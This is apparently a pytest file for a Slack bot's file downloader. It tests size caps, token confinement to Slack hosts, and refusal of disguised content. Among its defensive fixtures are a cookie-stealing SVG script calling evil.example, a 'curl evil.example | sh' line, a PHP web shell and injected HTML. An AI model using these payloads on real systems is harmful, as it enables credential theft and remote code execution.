"""Fetching a file_input file from (fake) Slack: refreshed, downloaded with the bot token, capped,
and never mistaken for Slack's login page."""

from __future__ import annotations

import io
import os
import zipfile

import httpx
import pytest

from dsbot.slack.interaction.files import (
    SlackAttachment,
    SlackFileFetcher,
    SlackFileNotHosted,
    SlackFileRef,
    SlackFileRefused,
    SlackFileTooLarge,
    SlackFileUnavailable,
    SlackLoginPage,
)
from dsbot.slack.interaction.hosts import slack_url as slack_file_url
from dsbot.texts import get_texts

PDF = b"%PDF-1.4\n" + os.urandom(50_000) + b"\n%%EOF\n"
# A whole one-page PDF and a 1×1 PNG, as a scanner and a screenshot would give them.
REAL_PDF = (
    b"%PDF-1.4\n1 0 obj<</Type/Catalog/Pages 2 0 R>>endobj\n"
    b"2 0 obj<</Type/Pages/Kids[3 0 R]/Count 1>>endobj\n"
    b"3 0 obj<</Type/Page/Parent 2 0 R/MediaBox[0 0 612 792]>>endobj\n"
    b"xref\n0 4\n0000000000 65535 f \ntrailer<</Size 4/Root 1 0 R>>\nstartxref\n0\n%%EOF\n"
)
REAL_PNG = bytes.fromhex(
    "89504e470d0a1a0a0000000d49484452000000010000000108060000001f15c489"
    "0000000d49444154789c63f8cfc0f01f0005000201e1f2b1850000000049454e44ae426082"
)


def docx() -> bytes:
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w") as archive:
        archive.writestr("[Content_Types].xml", "<Types/>")
        archive.writestr("word/document.xml", "<w:document><w:body/></w:document>")
    return out.getvalue()


def ref(file: dict) -> SlackFileRef:
    return SlackFileRef.from_payload(file)


def test_download_returns_the_exact_bytes(fake_slack, slack_client) -> None:
    file = fake_slack.add_file(PDF, "décision finale.pdf", "application/pdf")
    attachment = SlackAttachment(ref(file), SlackFileFetcher(slack_client))
    assert attachment.filename == "décision finale.pdf"
    assert attachment.content_type == "application/pdf"
    assert attachment.read() == PDF
    # Refreshed with files.info, downloaded with the bot token.
    assert [c.params["file"] for c in fake_slack.calls("files.info")] == [file["id"]]
    assert [d.authorized for d in fake_slack.downloads()] == [True]


def test_redirects_are_followed(fake_slack, slack_client) -> None:
    file = fake_slack.add_file(PDF, "scan.pdf", "application/pdf", redirect=True)
    assert SlackFileFetcher(slack_client).download(ref(file)) == PDF
    assert len(fake_slack.downloads()) == 2


def test_login_page_is_refused(fake_slack, slack_client) -> None:
    file = fake_slack.add_file(PDF, "scan.pdf", "application/pdf")
    fake_slack.login_page_files.add(file["id"])
    with pytest.raises(SlackLoginPage) as caught:
        SlackFileFetcher(slack_client).download(ref(file))
    assert caught.value.key == "file.login_page"
    assert caught.value.params == {"name": "scan.pdf"}


def test_announced_size_over_the_cap_is_refused_before_download(fake_slack, slack_client) -> None:
    file = fake_slack.add_file(PDF, "scan.pdf", "application/pdf")
    with pytest.raises(SlackFileTooLarge):
        SlackFileFetcher(slack_client, max_bytes=len(PDF) - 1).download(ref(file))
    assert fake_slack.downloads() == []


def test_streamed_body_over_the_cap_is_cut(fake_slack, slack_client) -> None:
    """A body without Content-Length (or an understated files.info size) is counted as it
    streams, and the download stops past the cap."""
    file = fake_slack.add_file(b"small", "scan.pdf", "application/pdf")
    seen: list[httpx.Request] = []
    chunks_sent: list[int] = []

    def endless_pdf():
        for _ in range(1000):
            chunks_sent.append(1)
            yield b"x" * 4096

    def storage(request: httpx.Request) -> httpx.Response:
        seen.append(request)
        return httpx.Response(
            200, headers={"Content-Type": "application/pdf"}, content=endless_pdf()
        )

    fetcher = SlackFileFetcher(
        slack_client, max_bytes=10_000, transport=httpx.MockTransport(storage)
    )
    with pytest.raises(SlackFileTooLarge) as caught:
        fetcher.download(ref(file))
    assert caught.value.key == "file.too_large"
    assert seen[0].headers["Authorization"] == "Bearer xoxb-test-token"
    # Read at most one chunk (64 KB) past the cap, not the whole endless body.
    assert len(chunks_sent) * 4096 <= 10_000 + 2 * 64 * 1024


def test_deleted_file_is_unavailable(fake_slack, slack_client) -> None:
    gone = {"id": "F0GONE", "name": "old.pdf", "mimetype": "application/pdf", "size": 3}
    with pytest.raises(SlackFileUnavailable) as caught:
        SlackFileFetcher(slack_client).download(ref(gone))
    assert caught.value.params["error"] == "file_not_found"


# --- the bot token never leaves Slack ------------------------------------------------------


def recording_transport(seen: list[httpx.Request], content: bytes = PDF) -> httpx.MockTransport:
    def handler(request: httpx.Request) -> httpx.Response:
        seen.append(request)
        return httpx.Response(200, headers={"Content-Type": "application/pdf"}, content=content)

    return httpx.MockTransport(handler)


def test_remote_file_is_refused_without_sending_the_token(fake_slack, slack_client) -> None:
    """A remote file: Slack says its URL is the third party's own."""
    file = fake_slack.add_file(PDF, "devis.pdf", "application/pdf")
    fake_slack.update_file(
        file["id"],
        is_external=True,
        external_type="gdrive",
        url_private="https://docs.example.com/devis.pdf",
        url_private_download="https://docs.example.com/devis.pdf",
    )
    seen: list[httpx.Request] = []
    fetcher = SlackFileFetcher(slack_client, transport=recording_transport(seen))
    with pytest.raises(SlackFileNotHosted) as caught:
        fetcher.download(ref(file))
    assert caught.value.key == "file.external"
    assert seen == []


def test_url_off_slack_hosts_is_refused(fake_slack, slack_client) -> None:
    file = fake_slack.add_file(PDF, "devis.pdf", "application/pdf")
    fake_slack.update_file(file["id"], url_private_download="https://evil.example/devis.pdf")
    seen: list[httpx.Request] = []
    fetcher = SlackFileFetcher(slack_client, transport=recording_transport(seen))
    with pytest.raises(SlackFileNotHosted) as caught:
        fetcher.download(ref(file))
    assert caught.value.key == "file.not_on_slack"
    assert seen == []


def test_plain_http_to_slack_is_refused(fake_slack, slack_client) -> None:
    file = fake_slack.add_file(PDF, "devis.pdf", "application/pdf")
    fake_slack.update_file(file["id"], url_private_download="http://files.slack.com/f/devis.pdf")
    seen: list[httpx.Request] = []
    fetcher = SlackFileFetcher(slack_client, transport=recording_transport(seen))
    with pytest.raises(SlackFileNotHosted):
        fetcher.download(ref(file))
    assert seen == []


def test_redirect_off_slack_is_not_followed(fake_slack, slack_client) -> None:
    file = fake_slack.add_file(PDF, "devis.pdf", "application/pdf")
    seen: list[httpx.Request] = []

    def handler(request: httpx.Request) -> httpx.Response:
        seen.append(request)
        if request.url.host == "evil.example":
            return httpx.Response(200, headers={"Content-Type": "application/pdf"}, content=PDF)
        return httpx.Response(302, headers={"Location": "https://evil.example/devis.pdf"})

    fetcher = SlackFileFetcher(slack_client, transport=httpx.MockTransport(handler))
    with pytest.raises(SlackFileNotHosted):
        fetcher.download(ref(file))
    assert [r.url.host for r in seen] == ["127.0.0.1"]


def test_slack_hosts_are_the_only_ones_allowed() -> None:
    assert slack_file_url("https://files.slack.com/files-pri/T1-F1/download/a.pdf", None)
    assert slack_file_url("https://acme.enterprise.slack.com/files-pri/T1-F1/a.pdf", None)
    assert not slack_file_url("https://files.slack.com.evil.example/a.pdf", None)
    assert not slack_file_url("https://evilslack.com/a.pdf", None)
    assert not slack_file_url("http://files.slack.com/a.pdf", None)
    assert slack_file_url("http://127.0.0.1:5000/files-pri/x", "http://127.0.0.1:5000/api/")
    assert not slack_file_url("http://127.0.0.1:5001/files-pri/x", "http://127.0.0.1:5000/api/")


# --- content refused before any upload ------------------------------------------------------


def test_empty_file_is_refused(fake_slack, slack_client) -> None:
    file = fake_slack.add_file(b"", "vide.pdf", "application/pdf")
    with pytest.raises(SlackFileRefused) as caught:
        SlackFileFetcher(slack_client).download(ref(file))
    assert caught.value.key == "file.empty"


SCRIPTED_SVG = (
    b'<?xml version="1.0" encoding="UTF-8"?>\n<svg xmlns="http://www.w3.org/2000/svg" '
    b'width="10" height="10"><script>fetch("https://evil.example/?c="+document.cookie)'
    b"</script><rect width='10' height='10'/></svg>"
)
ELF = b"\x7fELF\x02\x01\x01\x00" + bytes(range(256)) * 4


@pytest.mark.parametrize(
    ("content", "mimetype", "name", "key"),
    [
        (b"<!DOCTYPE html><html><body>Connexion</body></html>", "application/pdf", "a.pdf", "html"),
        (b"\n  <html><head></head></html>", "image/png", "a.png", "html"),
        (b"MZ\x90\x00\x03" + bytes(range(256)), "application/pdf", "decision.pdf", "executable"),
        (ELF, "application/pdf", "decision.pdf", "executable"),
        (ELF, "application/octet-stream", "notes", "executable"),
        (b"%PDF-1.4 ...", "image/jpeg", "photo.jpg", "mismatch"),
        (b"<html>not a sheet</html>", "text/csv", "a.csv", "html"),
        # A fragment, no doctype nor <html>: what a browser would still run.
        (b"Bonjour,\nvoici la piece <a href='https://x.example'>ici</a>.", "text/plain", "a.txt",
         "html"),
        (b"Merci.\n<script>alert(document.domain)</script>\n", "text/plain", "a.txt", "html"),
        (b"<iframe src=//evil.example></iframe>", "application/octet-stream", "x", "html"),
        ("Voir <div onclick=x()>ici</div>".encode("utf-16"), "text/plain", "a.txt", "html"),
        (SCRIPTED_SVG, "application/octet-stream", "logo", "svg"),
        (SCRIPTED_SVG, "image/png", "logo.png", "svg"),
        (b"#!/bin/sh\ncurl evil.example | sh\n", "text/plain", "lisez-moi.txt", "script"),
        (b"<?php system($_GET['c']); ?>", "text/plain", "a.txt", "script"),
        (b"\x1f\x8b\x08\x00" + bytes(64), "application/x-msdownload", "a.exe", "not_accepted"),
    ],
    ids=[
        "html-as-pdf",
        "html-as-png",
        "pe-renamed-pdf",
        "elf-renamed-pdf",
        "elf-as-octet-stream",
        "pdf-as-jpeg",
        "html-as-csv",
        "html-fragment-link-as-text",
        "html-fragment-script-as-text",
        "iframe-as-octet-stream",
        "html-in-utf16",
        "scripted-svg-as-octet-stream",
        "svg-as-png",
        "shell-script-as-text",
        "php-as-text",
        "type-outside-ds-list",
    ],
)  # fmt: skip
def test_content_is_judged_by_its_bytes_and_refused(
    fake_slack, slack_client, content, mimetype, name, key
) -> None:
    file = fake_slack.add_file(content, name, mimetype)
    with pytest.raises(SlackFileRefused) as caught:
        SlackFileFetcher(slack_client).download(ref(file))
    assert caught.value.key == f"file.refused_{key}"
    text = get_texts("fr")(caught.value.key, **caught.value.params)
    assert name in text and "DS" in text  # a clear French sentence naming the file


def test_a_file_of_another_workspace_is_refused_before_download(fake_slack, slack_client) -> None:
    file = fake_slack.add_file(PDF, "scan.pdf", "application/pdf")
    fake_slack.update_file(file["id"], user_team="T0OTHERORG")
    with pytest.raises(SlackFileRefused) as caught:
        SlackFileFetcher(slack_client, team_id="T0TEST").download(ref(file))
    assert caught.value.key == "file.foreign_team"
    assert "autre espace de travail" in get_texts("fr")(caught.value.key, **caught.value.params)
    assert fake_slack.downloads() == []
    # The same file, in its own workspace, is fetched.
    fake_slack.update_file(file["id"], user_team="T0TEST")
    assert SlackFileFetcher(slack_client, team_id="T0TEST").download(ref(file)) == PDF


@pytest.mark.parametrize(
    ("content", "mimetype"),
    [
        (b"\x89PNG\r\n\x1a\n" + b"\x00" * 20, "image/png"),
        (b"PK\x03\x04" + b"\x00" * 20, "application/msword"),
        (b"nom;prenom\n", "text/csv"),
        (b"RIFF\x00\x00\x00\x00WEBPVP8 ", "image/webp"),
        (REAL_PDF, "application/pdf"),
        (REAL_PNG, "image/png"),
        (REAL_PNG, "application/octet-stream"),
        (docx(), "application/vnd.openxmlformats-officedocument.wordprocessingml.document"),
        (b"Marie <marie@exemple.fr> : 3 < 5 et 7 > 2\n", "text/plain"),
        (b"%PDF-1.4\n" + bytes(range(256)) * 64 + b"\n%%EOF\n", "application/pdf"),
    ],
    ids=["png", "docx-as-doc", "csv", "webp", "pdf", "real-png", "png-as-octet-stream",
         "docx", "text-with-angle-brackets", "pdf-with-every-byte"],
)  # fmt: skip
def test_content_of_the_announced_type_is_accepted(fake_slack, slack_client, content, mimetype):
    file = fake_slack.add_file(content, "piece", mimetype)
    assert SlackFileFetcher(slack_client).download(ref(file)) == content


def test_file_entry_that_is_not_slacks_is_rejected() -> None:
    with pytest.raises(ValueError):
        SlackFileRef.from_payload({"id": "F1", "name": "a.pdf", "size": "abc"})
    with pytest.raises(ValueError):
        SlackFileRef.from_payload({"name": "a.pdf", "size": 3})
    assert SlackFileRef.from_payload({"id": "F1", "is_external": True}).is_external
